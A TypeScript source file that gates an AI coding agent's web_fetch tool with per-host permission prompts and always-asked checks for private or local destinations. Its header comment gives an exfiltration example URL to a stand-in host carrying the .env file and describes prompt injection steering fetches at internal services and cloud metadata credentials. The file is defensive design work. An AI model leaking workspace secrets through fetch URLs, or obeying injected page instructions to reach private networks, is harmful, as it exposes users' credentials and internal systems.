/**
 * web_fetch's permissions. It changes nothing, but its URL can carry what the agent read out of the workspace
 * (`https://evil.example/?q=<the .env file>`), and a prompt injected into one page can aim the next fetch at the
 * user's own machine or network (a dev server, a router, 169.254.169.254's cloud credentials). So:
 *
 *   the call's host (before it runs)      default, acceptEdits: asked     bypassPermissions: allowed
 *                                         plan, untrusted workspace: asked (read-only is not "nothing leaves")
 *   a private destination (after DNS,     asked in every mode, bypassPermissions too: like the bash deny list and
 *   at every redirect hop)                path confinement, bypass means "don't ask me about my workspace", not
 *                                         "let a web page reach my LAN". Only an answer or a rule naming the host
 *                                         (`--allowed-tools "web_fetch(domain:127.0.0.1)"`) lets it through; a
 *                                         whole-tool rule (`web_fetch`) or a PreToolUse hook's allow does not.
 *
 * Answers are per host, as Claude Code's WebFetch(domain:…): "Allow for this session" covers that host only.
 * A URL whose host is private as written (127.0.0.1, [::1], localhost) skips the first question: the private
 * one that follows names the host and answers both.
 */
import { literalPrivateRange, privatePlace } from '../tools/private-address';
import type { PrivateDestination } from '../tools/types';
import type { PermissionVerdict, ToolCallRequest } from './types';
import type { PermissionMode } from '../vocabulary';

export const WEB_FETCH = 'web_fetch';

/** The host a web_fetch call names (lower case, no IPv6 brackets), or undefined when its URL is not one it fetches. */
export function fetchHostOf(req: ToolCallRequest): string | undefined {
  if (req.privateDestination) return normalizeHost(req.privateDestination.host);
  const url = urlOf(req.input);
  return url ? normalizeHost(url.hostname) : undefined;
}

export function normalizeHost(host: string): string {
  const bare = host.startsWith('[') && host.endsWith(']') ? host.slice(1, -1) : host;
  return bare.toLowerCase().replace(/\.$/, '');
}

function urlOf(input: unknown): URL | undefined {
  const raw = typeof input === 'object' && input !== null ? (input as { url?: unknown }).url : undefined;
  if (typeof raw !== 'string') return undefined;
  try {
    const url = new URL(raw.trim());
    return url.protocol === 'http:' || url.protocol === 'https:' ? url : undefined;
  } catch {
    return undefined;
  }
}

/** Why plan mode and an untrusted workspace ask (the editor's modal shows it as the question's reason). */
export const UNTRUSTED_WHY = 'the workspace is not trusted, and a fetch can carry what the agent read out in its URL';
export const PLAN_WHY = 'plan mode is read-only, but a fetch can carry what the agent read out in its URL';

/** The first question: the call's host, by mode and trust. */
export function webFetchVerdict(req: ToolCallRequest, mode: PermissionMode, trusted: boolean, sessionHosts: ReadonlySet<string>): PermissionVerdict {
  const host = fetchHostOf(req);
  // Not a URL it fetches (the tool says why), or private as written (the question that follows covers it).
  if (host === undefined || literalPrivateRange(host)) return { behavior: 'allow' };
  if (sessionHosts.has(host)) return { behavior: 'allow' };
  if (!trusted) return { behavior: 'ask', reason: `${UNTRUSTED_WHY}: web_fetch wants to fetch ${req.summary}` };
  if (mode === 'plan') return { behavior: 'ask', reason: `${PLAN_WHY}: web_fetch wants to fetch ${req.summary}` };
  if (mode === 'bypassPermissions') return { behavior: 'allow' };
  return { behavior: 'ask', reason: `web_fetch wants to fetch from ${host}: ${req.summary}` };
}

/** The second question: a hop to this machine or a private network, in every mode. */
export function privateDestinationVerdict(destination: PrivateDestination, allowedByRule: boolean, sessionPrivate: ReadonlySet<string>): PermissionVerdict {
  const host = normalizeHost(destination.host);
  if (allowedByRule || sessionPrivate.has(host)) return { behavior: 'allow' };
  return { behavior: 'ask', reason: `web_fetch wants to ${privateSummary(destination)} (${destination.url}); fetches to this machine or a private network are asked in every permission mode` };
}

/** "fetch from this machine: 127.0.0.1:8080", "fetch from the local network: nas.lan:80 (192.168.1.5)". */
export function privateSummary(d: PrivateDestination): string {
  const host = d.host.includes(':') ? `[${d.host}]` : d.host;
  const address = normalizeHost(d.address) === normalizeHost(d.host) ? '' : ` (${d.address})`;
  return `fetch from ${privatePlace(d.range)}: ${host}:${d.port}${address}`;
}

/** The tool rule that allows a host (`web_fetch(domain:example.com)`): the CLI's refusal names it. */
export function hostRule(host: string): string {
  return `${WEB_FETCH}(domain:${host})`;
}
